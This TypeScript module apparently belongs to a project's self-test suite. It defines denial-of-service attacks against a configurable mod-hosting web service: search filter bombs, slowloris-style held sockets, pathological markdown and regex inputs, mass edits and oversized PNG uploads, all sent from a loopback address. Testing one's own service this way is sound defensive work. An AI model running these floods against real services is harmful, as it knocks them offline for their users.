import { Agent } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { flatPng } from '../../../tests/attacks/flat-png.ts'
import { slow } from '../../../web/src/features/markdown/renderer/slow-corpus.ts'
import { ask } from './request.ts'
import type { Target } from './target.ts'

/** All of one attack comes from one address. */
const FROM = '127.0.0.66'
const AT_ONCE = 8
const SOCKETS = 400

const agent = new Agent({ keepAlive: true, maxSockets: AT_ONCE })

/** Repeats a request as often as answers come, over eight connections; ends with the thread. */
async function hammer(attack: (index: number) => Promise<unknown>): Promise<void> {
  let index = 0
  const one = async () => {
    for (;;) {
      index += 1
      const startedAt = performance.now()
      await attack(index)
      // Refusals come at once; an attacker of one machine is no flood of the network.
      if (performance.now() - startedAt < 5) await sleep(5)
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, one))
}

const signedIn = ({ session, url }: Target) => ({ authorization: session, origin: url })
const json = { 'content-type': 'application/json' }

function searchWith(target: Target, query: object): () => Promise<unknown> {
  const body = gzipSync(JSON.stringify(query))
  const headers = { ...json, authorization: `Bearer ${target.searchKey}`, 'content-encoding': 'gzip' }
  return () =>
    ask({
      url: `${target.url}/_search/indexes/projects/search`,
      from: FROM,
      agent,
      method: 'POST',
      headers,
      body,
    })
}

type Attack = (target: Target) => Promise<void>

export const attacks = {
  searchFilters: (target) =>
    hammer(searchWith(target, { filter: [Array.from({ length: 2_000_000 }, () => 'downloads > 1')] })),

  searchHits: (target) => hammer(searchWith(target, { q: '', limit: 250_000, facets: ['*'] })),

  /** Ranges that overlap in part, each over most documents. */
  costlyFilters: (target) =>
    hammer((index) => {
      const ranges = Array.from({ length: 300 }, (_, n) => `(downloads > ${n + index} OR follows > ${n})`)
      return searchWith(target, { q: '', filter: ranges.join(' AND ') })()
    }),

  /** A caller whose minute is used up requests the page that all others want. */
  blackout: async (target) => {
    const read = { url: `${target.url}/v2/tag/loader`, from: FROM, agent }
    while ((await ask(read)).status !== 429);
    await hammer(() => ask({ url: target.page, from: FROM, agent, headers: { accept: 'text/html' } }))
  },

  comparisons: (target) =>
    hammer((index) => ask({ url: `${target.comparison}&at=${index}`, from: FROM, agent })),

  previews: (target) => {
    const paths = [
      `/preview/project/${target.own}.png`,
      ...target.projectIds.map((id) => `/preview/project/${id}.png`),
      '/v2/projects_random?count=100',
      '/openapi.json',
    ]
    return hammer((index) =>
      ask({ url: target.url + (paths[index % paths.length] ?? ''), from: FROM, agent }),
    )
  },

  markdown: (target) => {
    const shapes = Object.values(slow)
    const page = new URL(target.own, target.page).href
    return hammer(async (index) => {
      const shape = shapes[index % shapes.length]
      const body = JSON.stringify({ body: `${index}\n\n${shape?.(65_000) ?? ''}`.slice(0, 65_536) })
      const url = `${target.url}/v2/project/${target.own}`
      await ask({ url, from: FROM, agent, method: 'PATCH', headers: { ...signedIn(target), ...json }, body })
      await ask({ url: page, from: FROM, agent, headers: { accept: 'text/html' } })
    })
  },

  sockets: async ({ url }) => {
    const { hostname, port } = new URL(url)
    const openings = [
      'POST /v2/auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{',
      'POST /_search/indexes/projects/search HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n\r\n{',
      'GET /mods HTTP/1.1\r\nhost: x\r\nx-slow: ',
      'GET /v2/search?limit=100 HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(20),
    ]
    const keepOpen = async (index: number) => {
      for (;;) {
        const socket = connect({ host: hostname, port: Number(port), localAddress: FROM })
        socket.on('error', () => {}).pause()
        socket.write(openings[index % openings.length] ?? '')
        const drip = setInterval(() => socket.write('a'), 1000)
        await new Promise((resolve) => socket.once('close', resolve))
        clearInterval(drip)
        await sleep(200)
      }
    }
    await Promise.all(Array.from({ length: SOCKETS }, (_, index) => keepOpen(index)))
  },

  pages: (target) =>
    hammer((index) => {
      const urls = [target.page, `${target.page}?at=${index}`, `${target.url}/mods?page=${index}`]
      return ask({
        url: urls[index % urls.length] ?? '',
        from: FROM,
        agent,
        headers: { accept: 'text/html' },
      })
    }),

  regularExpressions: (target) => {
    const facets = encodeURIComponent(JSON.stringify([[`title:x${' '.repeat(19_900)}y`]]))
    return hammer(() => ask({ url: `${target.url}/v2/search?facets=${facets}`, from: FROM, agent }))
  },

  database: (target) =>
    hammer((index) =>
      ask({
        url: `${target.url}/v2/project/${target.own}`,
        from: FROM,
        agent,
        method: 'PATCH',
        headers: { ...signedIn(target), ...json },
        body: JSON.stringify({
          description: `Edited for the ${index}th time`,
          body: `![a](/data/${index}) `.repeat(2000),
        }),
      }),
    ),

  lists: (target) => {
    const ids = (all: string[]) => encodeURIComponent(JSON.stringify(all))
    const urls = [
      `${target.url}/v2/projects?ids=${ids(target.projectIds)}`,
      `${target.url}/v2/versions?ids=${ids(target.versionIds)}`,
      `${target.url}/v2/project/${target.own}/version`,
      `${target.url}/v2/search?limit=100`,
    ]
    return hammer((index) => ask({ url: urls[index % urls.length] ?? '', from: FROM, agent }))
  },

  pictures: async (target) => {
    const pictures = await Promise.all([flatPng(4400, { isInterlaced: true }), flatPng(7000)])
    await hammer((index) =>
      ask({
        url: `${target.url}/v2/project/${target.own}/icon?ext=png`,
        from: FROM,
        agent,
        method: 'PATCH',
        headers: { ...signedIn(target), 'content-type': 'image/png' },
        body: pictures[index % pictures.length] ?? '',
      }),
    )
  },
} satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks
